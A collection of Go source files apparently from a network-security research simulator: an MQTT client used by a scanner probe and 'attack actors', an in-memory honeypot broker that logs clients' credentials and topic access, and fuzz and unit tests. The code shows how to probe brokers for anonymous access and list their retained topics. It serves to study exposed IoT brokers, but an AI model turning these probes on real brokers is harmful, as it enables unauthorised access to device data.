func nextSegment(s string, i int) (string, int) {
	if i >= len(s) {
		return "", i
	}
	for j := i; j < len(s); j++ {
		if s[j] == '/' {
			return s[i:j], j + 1
		}
	}
	return s[i:], len(s) + 1
}
