package mqtt

import (
	"errors"
	"net"
	"time"
)

// Client is a minimal MQTT 3.1.1 client used by the scanner's probe (a bare
// CONNECT to elicit the CONNACK return code), by attack actors (publishes,
// subscriptions) and by tests.
type Client struct {
	conn    net.Conn
	timeout time.Duration
	nextID  uint16
}

// NewClient wraps an established connection. timeout bounds each exchange.
func NewClient(conn net.Conn, timeout time.Duration) *Client {
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	return &Client{conn: conn, timeout: timeout, nextID: 1}
}

// ErrRejected is returned by Connect when the broker refuses the session.
var ErrRejected = errors.New("mqtt: connection rejected")

// Connect performs the CONNECT/CONNACK handshake. Empty username means an
// anonymous attempt — exactly the paper's probe. The returned code is the
// broker's verdict even when err is ErrRejected.
func (c *Client) Connect(clientID, username, password string) (ConnackCode, error) {
	pkt := &Packet{Type: CONNECT, ClientID: clientID, KeepAlive: 60}
	if username != "" || password != "" {
		pkt.HasAuth = true
		pkt.Username = username
		pkt.Password = password
	}
	_ = c.conn.SetDeadline(time.Now().Add(c.timeout))
	if _, err := c.conn.Write(pkt.Encode()); err != nil {
		return 0, err
	}
	resp, err := ReadPacket(c.conn)
	if err != nil {
		return 0, err
	}
	if resp.Type != CONNACK {
		return 0, ErrMalformed
	}
	if resp.ReturnCode != ConnAccepted {
		return resp.ReturnCode, ErrRejected
	}
	return resp.ReturnCode, nil
}

// Subscribe sends a SUBSCRIBE for the filters and waits for the SUBACK.
func (c *Client) Subscribe(filters ...string) error {
	id := c.nextID
	c.nextID++
	pkt := &Packet{Type: SUBSCRIBE, PacketID: id, TopicFilter: filters,
		GrantedQoS: make([]byte, len(filters))}
	_ = c.conn.SetDeadline(time.Now().Add(c.timeout))
	if _, err := c.conn.Write(pkt.Encode()); err != nil {
		return err
	}
	for {
		resp, err := ReadPacket(c.conn)
		if err != nil {
			return err
		}
		if resp.Type == SUBACK && resp.PacketID == id {
			return nil
		}
		// Retained publishes may arrive interleaved; skip them here.
	}
}

// Publish sends a PUBLISH packet (QoS 0, optionally retained).
func (c *Client) Publish(topic string, payload []byte, retain bool) error {
	pkt := &Packet{Type: PUBLISH, Topic: topic, Payload: payload, Retain: retain}
	_ = c.conn.SetWriteDeadline(time.Now().Add(c.timeout))
	_, err := c.conn.Write(pkt.Encode())
	return err
}

// CollectRetained subscribes to filter and gathers retained messages until
// the window elapses or max messages arrive. Live publishes fanned out
// during the window are captured too.
func (c *Client) CollectRetained(filter string, window time.Duration, max int) (map[string][]byte, error) {
	return c.collect(filter, window, max, false)
}

// RetainedSnapshot subscribes to filter and returns only the broker's
// retained messages. It pipelines a PINGREQ behind the SUBSCRIBE: brokers
// answer a connection's packets in order, so the PINGRESP arrives after the
// last retained message and delimits the set — the call returns as soon as
// delivery completes instead of sitting out the window on a quiet broker.
// The scanner uses this to list topics on open brokers ("all the topics and
// channels on the target host are listed", Section 3.1.3); excluding
// publishes that race the snapshot keeps scan results deterministic.
func (c *Client) RetainedSnapshot(filter string, window time.Duration, max int) (map[string][]byte, error) {
	return c.collect(filter, window, max, true)
}

func (c *Client) collect(filter string, window time.Duration, max int, sentinel bool) (map[string][]byte, error) {
	id := c.nextID
	c.nextID++
	pkt := &Packet{Type: SUBSCRIBE, PacketID: id, TopicFilter: []string{filter},
		GrantedQoS: []byte{0}}
	_ = c.conn.SetDeadline(time.Now().Add(c.timeout))
	if _, err := c.conn.Write(pkt.Encode()); err != nil {
		return nil, err
	}
	if sentinel {
		if _, err := c.conn.Write((&Packet{Type: PINGREQ}).Encode()); err != nil {
			return nil, err
		}
	}
	got := make(map[string][]byte)
	deadline := time.Now().Add(window)
	_ = c.conn.SetReadDeadline(deadline)
	for len(got) < max {
		resp, err := ReadPacket(c.conn)
		if err != nil {
			break // window elapsed or broker closed: return what we have
		}
		if sentinel && resp.Type == PINGRESP {
			break // retained delivery complete
		}
		if resp.Type == PUBLISH {
			got[resp.Topic] = resp.Payload
		}
	}
	return got, nil
}

// Ping round-trips a PINGREQ.
func (c *Client) Ping() error {
	_ = c.conn.SetDeadline(time.Now().Add(c.timeout))
	if _, err := c.conn.Write((&Packet{Type: PINGREQ}).Encode()); err != nil {
		return err
	}
	for {
		resp, err := ReadPacket(c.conn)
		if err != nil {
			return err
		}
		if resp.Type == PINGRESP {
			return nil
		}
	}
}

// Disconnect sends DISCONNECT and closes the connection.
func (c *Client) Disconnect() error {
	_, _ = c.conn.Write((&Packet{Type: DISCONNECT}).Encode())
	return c.conn.Close()
}
