package mqtt

import (
	"context"
	"sort"
	"strings"
	"sync"
	"time"

	"openhire/internal/netsim"
)

// EventKind classifies broker-side observations used by honeypot logging.
type EventKind uint8

// Broker event kinds.
const (
	EventConnect EventKind = iota
	EventSubscribe
	EventPublish
	EventSysAccess // subscription touching $SYS topics
)

// Event is one broker-side observation.
type Event struct {
	Time     time.Time
	Kind     EventKind
	Remote   netsim.IPv4
	ClientID string
	Username string
	Password string
	Code     ConnackCode
	Topic    string
	Payload  []byte
}

// BrokerConfig configures authentication and identity of a broker.
type BrokerConfig struct {
	// RequireAuth makes the broker reject CONNECT without credentials with
	// return code 5, and wrong credentials with code 4. The paper's
	// misconfigured brokers have this unset: CONNECT → code 0.
	RequireAuth bool
	// Credentials maps username → password when RequireAuth is set.
	Credentials map[string]string
	// Version is exposed at $SYS/broker/version.
	Version string
	// OnEvent, when non-nil, receives observations.
	OnEvent func(Event)
	// MaxPublishesPerConn guards against floods (0 = unlimited). Exceeding
	// it closes the session; honeypot profiles keep it unlimited so DoS
	// attacks are observable.
	MaxPublishesPerConn int
}

// Broker is an in-memory MQTT 3.1.1 broker.
type Broker struct {
	cfg BrokerConfig

	mu       sync.Mutex
	retained map[string][]byte
	subs     map[*session]map[string]bool
}

// NewBroker returns a broker with a $SYS tree prepopulated the way a
// default Mosquitto-style install exposes it.
func NewBroker(cfg BrokerConfig) *Broker {
	if cfg.Version == "" {
		cfg.Version = "mosquitto version 1.6.9"
	}
	b := &Broker{
		cfg:      cfg,
		retained: make(map[string][]byte),
		subs:     make(map[*session]map[string]bool),
	}
	b.retained["$SYS/broker/version"] = []byte(cfg.Version)
	b.retained["$SYS/broker/uptime"] = []byte("86400 seconds")
	b.retained["$SYS/broker/clients/total"] = []byte("3")
	return b
}

// Retain stores a retained message, pre-seeding device topics
// ("homeassistant/light/...", "octoPrint/temperature/bed", Table 11).
func (b *Broker) Retain(topic string, payload []byte) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.retained[topic] = append([]byte(nil), payload...)
}

// RetainedValue returns the current retained payload for a topic.
func (b *Broker) RetainedValue(topic string) ([]byte, bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	v, ok := b.retained[topic]
	if !ok {
		return nil, false
	}
	return append([]byte(nil), v...), true
}

// Topics lists retained topic names, sorted.
func (b *Broker) Topics() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	out := make([]string, 0, len(b.retained))
	for t := range b.retained {
		out = append(out, t)
	}
	sort.Strings(out)
	return out
}

// session is one connected client.
type session struct {
	conn   *netsim.ServiceConn
	remote netsim.IPv4
	wmu    sync.Mutex
}

func (s *session) send(p *Packet) error {
	s.wmu.Lock()
	defer s.wmu.Unlock()
	_, err := s.conn.Write(p.Encode())
	return err
}

func (b *Broker) emit(ev Event) {
	if b.cfg.OnEvent != nil {
		b.cfg.OnEvent(ev)
	}
}

// Serve implements netsim.StreamHandler: one MQTT session per connection.
func (b *Broker) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	remote, _ := netsim.RemoteIPv4(conn)
	s := &session{conn: conn, remote: remote}
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))

	pkt, err := ReadPacket(conn)
	if err != nil || pkt.Type != CONNECT {
		return
	}
	code := b.authenticate(pkt)
	b.emit(Event{
		Time: conn.DialTime, Kind: EventConnect, Remote: remote,
		ClientID: pkt.ClientID, Username: pkt.Username, Password: pkt.Password,
		Code: code,
	})
	if err := s.send(&Packet{Type: CONNACK, ReturnCode: code}); err != nil {
		return
	}
	if code != ConnAccepted {
		return
	}

	b.mu.Lock()
	b.subs[s] = make(map[string]bool)
	b.mu.Unlock()
	defer func() {
		b.mu.Lock()
		delete(b.subs, s)
		b.mu.Unlock()
	}()

	publishes := 0
	for {
		pkt, err := ReadPacket(conn)
		if err != nil {
			return
		}
		switch pkt.Type {
		case SUBSCRIBE:
			b.handleSubscribe(s, pkt, conn.DialTime)
		case UNSUBSCRIBE:
			b.mu.Lock()
			for _, f := range pkt.TopicFilter {
				delete(b.subs[s], f)
			}
			b.mu.Unlock()
			_ = s.send(&Packet{Type: UNSUBACK, PacketID: pkt.PacketID})
		case PUBLISH:
			publishes++
			if b.cfg.MaxPublishesPerConn > 0 && publishes > b.cfg.MaxPublishesPerConn {
				return
			}
			b.handlePublish(s, pkt, conn.DialTime)
		case PINGREQ:
			_ = s.send(&Packet{Type: PINGRESP})
		case DISCONNECT:
			return
		default:
			return // protocol violation
		}
	}
}

func (b *Broker) authenticate(pkt *Packet) ConnackCode {
	if !b.cfg.RequireAuth {
		return ConnAccepted
	}
	if !pkt.HasAuth {
		return ConnNotAuthorized
	}
	if want, ok := b.cfg.Credentials[pkt.Username]; ok && want == pkt.Password {
		return ConnAccepted
	}
	return ConnBadCredentials
}

func (b *Broker) handleSubscribe(s *session, pkt *Packet, now time.Time) {
	granted := make([]byte, len(pkt.TopicFilter))
	var deliver []*Packet
	b.mu.Lock()
	for _, f := range pkt.TopicFilter {
		b.subs[s][f] = true
		for topic, payload := range b.retained {
			if TopicMatches(f, topic) {
				deliver = append(deliver, &Packet{
					Type: PUBLISH, Topic: topic, Retain: true,
					Payload: append([]byte(nil), payload...),
				})
			}
		}
	}
	b.mu.Unlock()
	sort.Slice(deliver, func(i, j int) bool { return deliver[i].Topic < deliver[j].Topic })

	kind := EventSubscribe
	for _, f := range pkt.TopicFilter {
		if strings.HasPrefix(f, "$SYS") || f == "#" {
			kind = EventSysAccess
		}
		b.emit(Event{Time: now, Kind: kind, Remote: s.remote, Topic: f})
		kind = EventSubscribe
	}
	_ = s.send(&Packet{Type: SUBACK, PacketID: pkt.PacketID, GrantedQoS: granted})
	for _, d := range deliver {
		_ = s.send(d)
	}
}

func (b *Broker) handlePublish(s *session, pkt *Packet, now time.Time) {
	b.emit(Event{
		Time: now, Kind: EventPublish, Remote: s.remote,
		Topic: pkt.Topic, Payload: append([]byte(nil), pkt.Payload...),
	})
	if pkt.Retain {
		b.mu.Lock()
		if len(pkt.Payload) == 0 {
			delete(b.retained, pkt.Topic)
		} else {
			b.retained[pkt.Topic] = append([]byte(nil), pkt.Payload...)
		}
		b.mu.Unlock()
	}
	if pkt.QoS > 0 {
		_ = s.send(&Packet{Type: PUBACK, PacketID: pkt.PacketID})
	}
	// Fan out to live subscribers.
	b.mu.Lock()
	var targets []*session
	for sess, filters := range b.subs {
		if sess == s {
			continue
		}
		for f := range filters {
			if TopicMatches(f, pkt.Topic) {
				targets = append(targets, sess)
				break
			}
		}
	}
	b.mu.Unlock()
	for _, t := range targets {
		_ = t.send(&Packet{Type: PUBLISH, Topic: pkt.Topic, Payload: pkt.Payload})
	}
}
