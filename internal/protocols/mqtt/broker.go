package mqtt

import (
	"context"
	"sort"
	"strings"
	"sync"
	"time"

	"openhire/internal/netsim"
)

// EventKind classifies broker-side observations used by honeypot logging.
type EventKind uint8

// Broker event kinds.
const (
	EventConnect EventKind = iota
	EventSubscribe
	EventPublish
	EventSysAccess // subscription touching $SYS topics
)

// Event is one broker-side observation.
type Event struct {
	Time     time.Time
	Kind     EventKind
	Remote   netsim.IPv4
	ClientID string
	Username string
	Password string
	Code     ConnackCode
	Topic    string
	Payload  []byte
}

// BrokerConfig configures authentication and identity of a broker.
type BrokerConfig struct {
	// RequireAuth makes the broker reject CONNECT without credentials with
	// return code 5, and wrong credentials with code 4. The paper's
	// misconfigured brokers have this unset: CONNECT → code 0.
	RequireAuth bool
	// Credentials maps username → password when RequireAuth is set.
	Credentials map[string]string
	// Version is exposed at $SYS/broker/version.
	Version string
	// OnEvent, when non-nil, receives observations.
	OnEvent func(Event)
	// MaxPublishesPerConn guards against floods (0 = unlimited). Exceeding
	// it closes the session; honeypot profiles keep it unlimited so DoS
	// attacks are observable.
	MaxPublishesPerConn int
}

// Broker is an in-memory MQTT 3.1.1 broker.
type Broker struct {
	cfg BrokerConfig

	mu       sync.Mutex
	retained map[string][]byte
	subs     map[*session]map[string]bool
}

// NewBroker returns a broker with a $SYS tree prepopulated the way a
// default Mosquitto-style install exposes it.
func NewBroker(cfg BrokerConfig) *Broker {
	if cfg.Version == "" {
		cfg.Version = "mosquitto version 1.6.9"
	}
	b := &Broker{
		cfg:      cfg,
		retained: make(map[string][]byte),
		subs:     make(map[*session]map[string]bool),
	}
	b.retained["$SYS/broker/version"] = []byte(cfg.Version)
	b.retained["$SYS/broker/uptime"] = []byte("86400 seconds")
	b.retained["$SYS/broker/clients/total"] = []byte("3")
	return b
}

// Retain stores a retained message, pre-seeding device topics
// ("homeassistant/light/...", "octoPrint/temperature/bed", Table 11).
func (b *Broker) Retain(topic string, payload []byte) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.retained[topic] = append([]byte(nil), payload...)
}

// RetainedValue returns the current retained payload for a topic.
func (b *Broker) RetainedValue(topic string) ([]byte, bool) {
	b.mu.Lock()
	defer b.mu.Unlock()
	v, ok := b.retained[topic]
	if !ok {
		return nil, false
	}
	return append([]byte(nil), v...), true
}

// Topics lists retained topic names, sorted.
func (b *Broker) Topics() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	out := make([]string, 0, len(b.retained))
	for t := range b.retained {
		out = append(out, t)
	}
	sort.Strings(out)
	return out
}

// session is one connected client.
type session struct {
	conn   *netsim.ServiceConn
	remote netsim.IPv4
	wmu    sync.Mutex
}

func (s *session) send(p *Packet) error {
	s.wmu.Lock()
	defer s.wmu.Unlock()
	_, err := s.conn.Write(p.Encode())
	return err
}

func (b *Broker) emit(ev Event) {
	if b.cfg.OnEvent != nil {
		b.cfg.OnEvent(ev)
	}
}

// Serve implements netsim.StreamHandler by running the same state machine
// NewStepper hands to the discrete-event engine over blocking reads.
func (b *Broker) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
	netsim.ServeStepper(ctx, conn, b.NewStepper())
}

// NewStepper implements netsim.StepProvider: a fresh per-session state
// machine for the conversation engine.
func (b *Broker) NewStepper() netsim.Stepper { return &brokerStepper{b: b} }

// brokerStepper is one MQTT session as a resumable state machine: an
// incremental packet framer (fixed header byte, remaining-length varint,
// body) plus the broker's packet dispatch. Session registration and
// deregistration happen at the same points the classic blocking loop hit
// them, so cross-session fanout sees an identical subscriber set.
type brokerStepper struct {
	b         *Broker
	s         *session
	connected bool // CONNECT accepted and session registered in b.subs
	publishes int
	// Packet framer state, carried across input batches.
	hdr    byte
	hdrOk  bool
	length int
	shift  uint
	lenCnt int
	lenOk  bool
}

// Step implements netsim.Stepper.
func (t *brokerStepper) Step(c *netsim.ServerConv, ev netsim.ConvEvent) netsim.StepVerdict {
	switch ev {
	case netsim.EvOpen:
		remote, _ := c.RemoteIP()
		t.s = &session{conn: c.Conn(), remote: remote}
		return netsim.StepMore
	case netsim.EvData:
		for {
			pkt, ready, fatal := t.nextPacket(c)
			if fatal { // framing or decode error: ReadPacket would have failed
				return t.finish()
			}
			if !ready {
				return netsim.StepMore
			}
			if t.handlePacket(c, pkt) == netsim.StepDone {
				return t.finish()
			}
		}
	default:
		// EvEOF / EvBroken: a blocking ReadPacket would have errored out.
		return t.finish()
	}
}

// nextPacket advances the framer over the buffered input. ready reports a
// complete, decoded packet; fatal reports a framing or decode error that
// ends the session.
func (t *brokerStepper) nextPacket(c *netsim.ServerConv) (pkt *Packet, ready, fatal bool) {
	in := c.Input()
	i := 0
	if !t.hdrOk {
		if i >= len(in) {
			c.Consume(i)
			return nil, false, false
		}
		t.hdr, t.hdrOk = in[i], true
		i++
	}
	for !t.lenOk {
		if i >= len(in) {
			c.Consume(i)
			return nil, false, false
		}
		bb := in[i]
		i++
		t.length |= int(bb&0x7f) << t.shift
		t.lenCnt++
		if bb&0x80 == 0 {
			t.lenOk = true
			break
		}
		if t.lenCnt == 4 { // continuation bit on the 4th byte: ErrMalformed
			c.Consume(i)
			return nil, false, true
		}
		t.shift += 7
	}
	if t.length > maxRemainingLength {
		c.Consume(i)
		return nil, false, true
	}
	if len(in)-i < t.length {
		c.Consume(i)
		return nil, false, false
	}
	body := in[i : i+t.length]
	hdr := t.hdr
	c.Consume(i + t.length)
	t.hdrOk, t.lenOk, t.length, t.shift, t.lenCnt = false, false, 0, 0, 0
	p, err := decode(hdr, body)
	if err != nil {
		return nil, false, true
	}
	return p, true, false
}

// handlePacket dispatches one decoded packet exactly as the blocking session
// loop did.
func (t *brokerStepper) handlePacket(c *netsim.ServerConv, pkt *Packet) netsim.StepVerdict {
	b := t.b
	if !t.connected {
		if pkt.Type != CONNECT {
			return netsim.StepDone
		}
		code := b.authenticate(pkt)
		b.emit(Event{
			Time: c.DialTime(), Kind: EventConnect, Remote: t.s.remote,
			ClientID: pkt.ClientID, Username: pkt.Username, Password: pkt.Password,
			Code: code,
		})
		if err := t.s.send(&Packet{Type: CONNACK, ReturnCode: code}); err != nil {
			return netsim.StepDone
		}
		if code != ConnAccepted {
			return netsim.StepDone
		}
		b.mu.Lock()
		b.subs[t.s] = make(map[string]bool)
		b.mu.Unlock()
		t.connected = true
		return netsim.StepMore
	}
	switch pkt.Type {
	case SUBSCRIBE:
		b.handleSubscribe(t.s, pkt, c.DialTime())
	case UNSUBSCRIBE:
		b.mu.Lock()
		for _, f := range pkt.TopicFilter {
			delete(b.subs[t.s], f)
		}
		b.mu.Unlock()
		_ = t.s.send(&Packet{Type: UNSUBACK, PacketID: pkt.PacketID})
	case PUBLISH:
		t.publishes++
		if b.cfg.MaxPublishesPerConn > 0 && t.publishes > b.cfg.MaxPublishesPerConn {
			return netsim.StepDone
		}
		b.handlePublish(t.s, pkt, c.DialTime())
	case PINGREQ:
		_ = t.s.send(&Packet{Type: PINGRESP})
	case DISCONNECT:
		return netsim.StepDone
	default:
		return netsim.StepDone // protocol violation
	}
	return netsim.StepMore
}

// finish deregisters the session (the blocking loop's deferred cleanup) and
// ends the conversation. Fanout from other sessions observes the same
// subscriber set transitions as before: registered from CONNACK acceptance
// until session end.
func (t *brokerStepper) finish() netsim.StepVerdict {
	if t.connected {
		t.b.mu.Lock()
		delete(t.b.subs, t.s)
		t.b.mu.Unlock()
		t.connected = false
	}
	return netsim.StepDone
}

func (b *Broker) authenticate(pkt *Packet) ConnackCode {
	if !b.cfg.RequireAuth {
		return ConnAccepted
	}
	if !pkt.HasAuth {
		return ConnNotAuthorized
	}
	if want, ok := b.cfg.Credentials[pkt.Username]; ok && want == pkt.Password {
		return ConnAccepted
	}
	return ConnBadCredentials
}

func (b *Broker) handleSubscribe(s *session, pkt *Packet, now time.Time) {
	granted := make([]byte, len(pkt.TopicFilter))
	var deliver []*Packet
	b.mu.Lock()
	for _, f := range pkt.TopicFilter {
		b.subs[s][f] = true
		for topic, payload := range b.retained {
			if TopicMatches(f, topic) {
				deliver = append(deliver, &Packet{
					Type: PUBLISH, Topic: topic, Retain: true,
					Payload: append([]byte(nil), payload...),
				})
			}
		}
	}
	b.mu.Unlock()
	sort.Slice(deliver, func(i, j int) bool { return deliver[i].Topic < deliver[j].Topic })

	kind := EventSubscribe
	for _, f := range pkt.TopicFilter {
		if strings.HasPrefix(f, "$SYS") || f == "#" {
			kind = EventSysAccess
		}
		b.emit(Event{Time: now, Kind: kind, Remote: s.remote, Topic: f})
		kind = EventSubscribe
	}
	_ = s.send(&Packet{Type: SUBACK, PacketID: pkt.PacketID, GrantedQoS: granted})
	for _, d := range deliver {
		_ = s.send(d)
	}
}

func (b *Broker) handlePublish(s *session, pkt *Packet, now time.Time) {
	b.emit(Event{
		Time: now, Kind: EventPublish, Remote: s.remote,
		Topic: pkt.Topic, Payload: append([]byte(nil), pkt.Payload...),
	})
	if pkt.Retain {
		b.mu.Lock()
		if len(pkt.Payload) == 0 {
			delete(b.retained, pkt.Topic)
		} else {
			b.retained[pkt.Topic] = append([]byte(nil), pkt.Payload...)
		}
		b.mu.Unlock()
	}
	if pkt.QoS > 0 {
		_ = s.send(&Packet{Type: PUBACK, PacketID: pkt.PacketID})
	}
	// Fan out to live subscribers.
	b.mu.Lock()
	var targets []*session
	for sess, filters := range b.subs {
		if sess == s {
			continue
		}
		for f := range filters {
			if TopicMatches(f, pkt.Topic) {
				targets = append(targets, sess)
				break
			}
		}
	}
	b.mu.Unlock()
	for _, t := range targets {
		_ = t.send(&Packet{Type: PUBLISH, Topic: pkt.Topic, Payload: pkt.Payload})
	}
}
