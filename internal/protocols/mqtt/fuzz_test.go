package mqtt

import (
	"bytes"
	"testing"
)

// FuzzReadPacket drives arbitrary bytes — including truncated packet
// prefixes, the shape a tarpitted broker conversation delivers — through the
// wire decoder. The decoder must never panic, must return a nil packet with
// every error, and anything it accepts must survive re-encoding and
// re-decoding to the same packet type.
func FuzzReadPacket(f *testing.F) {
	// Well-formed packets of each family, so the fuzzer starts from inputs
	// that reach the per-type decoders rather than dying at the fixed header.
	for _, p := range []*Packet{
		{Type: CONNECT, ClientID: "probe-1", KeepAlive: 60},
		{Type: CONNECT, ClientID: "c", Username: "admin", Password: "admin", HasAuth: true},
		{Type: CONNACK, ReturnCode: ConnAccepted},
		{Type: CONNACK, ReturnCode: ConnBadCredentials, SessionPresent: true},
		{Type: PUBLISH, Topic: "sensors/temp", Payload: []byte("21.5"), Retain: true},
		{Type: PUBLISH, Topic: "a/b", Payload: nil, QoS: 1, PacketID: 7},
		{Type: SUBSCRIBE, PacketID: 2, TopicFilter: []string{"#"}},
		{Type: SUBACK, PacketID: 2, GrantedQoS: []byte{0}},
		{Type: UNSUBSCRIBE, PacketID: 3, TopicFilter: []string{"a/+/c"}},
		{Type: PINGREQ},
		{Type: DISCONNECT},
	} {
		f.Add(p.Encode())
	}
	// Malformed shapes seen from real scanners and cut-off streams.
	f.Add([]byte{})
	f.Add([]byte{0x10})                                     // CONNECT header, no length
	f.Add([]byte{0x10, 0x7f})                               // length larger than body
	f.Add([]byte{0x30, 0x02, 0x00})                         // PUBLISH with truncated topic
	f.Add([]byte{0x10, 0x04, 0x00, 0x04, 'M', 'Q'})         // protocol name cut mid-string
	f.Add([]byte{0xf0, 0x00})                               // reserved packet type
	f.Add([]byte{0x10, 0xff, 0xff, 0xff, 0xff})             // remaining length overlong
	f.Add(bytes.Repeat([]byte{0xff}, 64))                   // IAC-style garbage
	f.Add([]byte("GET / HTTP/1.1\r\nHost: broker\r\n\r\n")) // cross-protocol probe

	f.Fuzz(func(t *testing.T, raw []byte) {
		p, err := ReadPacket(bytes.NewReader(raw))
		if err != nil {
			if p != nil {
				t.Fatalf("error %v returned alongside packet %+v", err, p)
			}
			return
		}
		// Whatever decoded must re-encode without panicking, and the encoded
		// form must decode back to the same packet type: the broker answers
		// clients with re-encoded packets, so an asymmetric codec would wedge
		// live conversations, not just the fuzzer.
		enc := p.Encode()
		p2, err := ReadPacket(bytes.NewReader(enc))
		if err != nil {
			t.Fatalf("re-decode of encoded %s failed: %v (bytes %x)", p.Type, err, enc)
		}
		if p2.Type != p.Type {
			t.Fatalf("type changed across re-encode: %s -> %s", p.Type, p2.Type)
		}
	})
}

// FuzzTopicMatches asserts the subscription matcher is total: any
// filter/topic pair — valid, hostile or truncated — returns without panic,
// and the multi-level wildcard alone matches everything.
func FuzzTopicMatches(f *testing.F) {
	f.Add("#", "any/topic/at/all")
	f.Add("a/+/c", "a/b/c")
	f.Add("a/b", "a/b/c")
	f.Add("", "")
	f.Add("+/+", "/")
	f.Add("a//b", "a//b")
	f.Add("$SYS/#", "$SYS/broker/uptime")

	f.Fuzz(func(t *testing.T, filter, topic string) {
		_ = TopicMatches(filter, topic)
		if !TopicMatches("#", topic) {
			t.Fatalf("multi-level wildcard rejected topic %q", topic)
		}
	})
}
