package mqtt

import (
	"bytes"
	"context"
	"testing"
	"testing/quick"
	"time"

	"openhire/internal/netsim"
)

func TestRemainingLengthRoundTrip(t *testing.T) {
	if err := quick.Check(func(n uint32) bool {
		v := int(n % maxRemainingLength)
		enc := encodeRemainingLength(nil, v)
		got, err := decodeRemainingLength(bytes.NewReader(enc))
		return err == nil && got == v
	}, nil); err != nil {
		t.Fatal(err)
	}
}

func TestRemainingLengthBoundaries(t *testing.T) {
	for _, v := range []int{0, 127, 128, 16383, 16384, 2097151} {
		enc := encodeRemainingLength(nil, v)
		got, err := decodeRemainingLength(bytes.NewReader(enc))
		if err != nil || got != v {
			t.Fatalf("round trip %d: got %d, %v", v, got, err)
		}
	}
}

func TestRemainingLengthMalformed(t *testing.T) {
	// Five continuation bytes violate the spec.
	_, err := decodeRemainingLength(bytes.NewReader([]byte{0x80, 0x80, 0x80, 0x80, 0x01}))
	if err == nil {
		t.Fatal("expected error")
	}
}

func roundTrip(t *testing.T, p *Packet) *Packet {
	t.Helper()
	got, err := ReadPacket(bytes.NewReader(p.Encode()))
	if err != nil {
		t.Fatalf("decode %v: %v", p.Type, err)
	}
	return got
}

func TestConnectRoundTrip(t *testing.T) {
	p := &Packet{Type: CONNECT, ClientID: "probe-1", KeepAlive: 60}
	got := roundTrip(t, p)
	if got.ClientID != "probe-1" || got.HasAuth || got.KeepAlive != 60 {
		t.Fatalf("got %+v", got)
	}

	p = &Packet{Type: CONNECT, ClientID: "c", HasAuth: true, Username: "admin", Password: "admin"}
	got = roundTrip(t, p)
	if !got.HasAuth || got.Username != "admin" || got.Password != "admin" {
		t.Fatalf("got %+v", got)
	}
}

func TestConnackRoundTrip(t *testing.T) {
	for _, code := range []ConnackCode{ConnAccepted, ConnBadCredentials, ConnNotAuthorized} {
		got := roundTrip(t, &Packet{Type: CONNACK, ReturnCode: code})
		if got.ReturnCode != code {
			t.Fatalf("code %d -> %d", code, got.ReturnCode)
		}
	}
}

func TestPublishRoundTrip(t *testing.T) {
	p := &Packet{Type: PUBLISH, Topic: "sensors/temp", Payload: []byte("21.5"), Retain: true}
	got := roundTrip(t, p)
	if got.Topic != "sensors/temp" || string(got.Payload) != "21.5" || !got.Retain {
		t.Fatalf("got %+v", got)
	}
	p = &Packet{Type: PUBLISH, Topic: "t", Payload: []byte("x"), QoS: 1, PacketID: 99}
	got = roundTrip(t, p)
	if got.QoS != 1 || got.PacketID != 99 || string(got.Payload) != "x" {
		t.Fatalf("qos1 got %+v", got)
	}
}

func TestSubscribeRoundTrip(t *testing.T) {
	p := &Packet{Type: SUBSCRIBE, PacketID: 7, TopicFilter: []string{"$SYS/#", "home/+/light"}, GrantedQoS: []byte{0, 0}}
	got := roundTrip(t, p)
	if got.PacketID != 7 || len(got.TopicFilter) != 2 || got.TopicFilter[0] != "$SYS/#" {
		t.Fatalf("got %+v", got)
	}
}

func TestControlPacketsRoundTrip(t *testing.T) {
	for _, typ := range []PacketType{PINGREQ, PINGRESP, DISCONNECT} {
		got := roundTrip(t, &Packet{Type: typ})
		if got.Type != typ {
			t.Fatalf("type %v -> %v", typ, got.Type)
		}
	}
}

func TestDecodeMalformed(t *testing.T) {
	cases := [][]byte{
		{byte(CONNECT) << 4, 2, 0, 5},     // truncated protocol name
		{byte(CONNACK) << 4, 1, 0},        // short CONNACK
		{byte(SUBSCRIBE)<<4 | 2, 2, 0, 1}, // no filters
		{0x00, 0},                         // reserved type 0
		{0xf0, 0},                         // reserved type 15
	}
	for i, raw := range cases {
		if _, err := ReadPacket(bytes.NewReader(raw)); err == nil {
			t.Errorf("case %d decoded successfully", i)
		}
	}
}

func TestDecodeFuzzNoPanic(t *testing.T) {
	if err := quick.Check(func(raw []byte) bool {
		_, _ = ReadPacket(bytes.NewReader(raw)) // must not panic
		return true
	}, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestTopicMatches(t *testing.T) {
	cases := []struct {
		filter, topic string
		want          bool
	}{
		{"a/b/c", "a/b/c", true},
		{"a/b/c", "a/b/d", false},
		{"a/+/c", "a/b/c", true},
		{"a/+/c", "a/b/d", false},
		{"#", "anything/at/all", true},
		{"$SYS/#", "$SYS/broker/version", true},
		{"$SYS/#", "other", false},
		{"a/#", "a/b/c/d", true},
		{"a/#", "b", false},
		{"a/b", "a/b/c", false},
		{"a/b/c", "a/b", false},
		{"+", "single", true},
		{"+", "two/levels", false},
	}
	for _, c := range cases {
		if got := TopicMatches(c.filter, c.topic); got != c.want {
			t.Errorf("TopicMatches(%q, %q) = %v, want %v", c.filter, c.topic, got, c.want)
		}
	}
}

// startBroker runs a broker session over an in-memory pair.
func startBroker(t *testing.T, cfg BrokerConfig) (*Broker, *Client, func()) {
	t.Helper()
	b := NewBroker(cfg)
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.9"), Port: 50000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.2"), Port: 1883},
		time.Now(),
	)
	done := make(chan struct{})
	go func() {
		defer close(done)
		defer server.Close()
		b.Serve(context.Background(), server)
	}()
	return b, NewClient(client, time.Second), func() {
		client.Close()
		<-done
	}
}

func TestBrokerAnonymousAccepted(t *testing.T) {
	var events []Event
	_, c, closeFn := startBroker(t, BrokerConfig{
		OnEvent: func(ev Event) { events = append(events, ev) },
	})
	defer closeFn()
	code, err := c.Connect("zmap-probe", "", "")
